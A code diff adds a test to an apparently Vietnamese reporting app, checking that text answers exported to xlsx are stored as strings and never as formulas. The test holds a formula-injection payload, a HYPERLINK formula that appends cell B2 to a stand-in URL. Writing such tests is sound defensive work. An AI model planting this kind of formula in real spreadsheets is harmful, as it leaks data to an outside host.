@@ -54,3 +54,19 @@ def test_the_docx_is_in_the_administrative_layout(filled: Any) -> None:
 
 def test_sections_are_numbered_past_ten() -> None:
     assert [roman(n) for n in (1, 4, 9, 10, 14, 40)] == ["I", "IV", "IX", "X", "XIV", "XL"]
+
+
+def test_text_answers_are_written_as_text_never_as_formulas(campaign: Any, other: Any) -> None:
+    from tests.reporting.conftest import send
+
+    campaign.title_vi = "=1+1"
+    campaign.save(update_fields=["title_vi"])
+    hanoi = campaign.units.get(code="ha-noi").submissions.get(kind="report")
+    payload = '=HYPERLINK("http://x/?"&B2,"Xem")'
+    send(other, hanoi, {"tom-tat": payload, "so-hop-dong": 4})
+    book = load_workbook(io.BytesIO(write(campaign, "xlsx")))
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
+    assert [c.data_type for c in cells if c.value == "=1+1"] == ["s"]
+    answer = [c for c in cells if c.value == payload]
+    assert answer and all(c.data_type == "s" for c in answer)
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
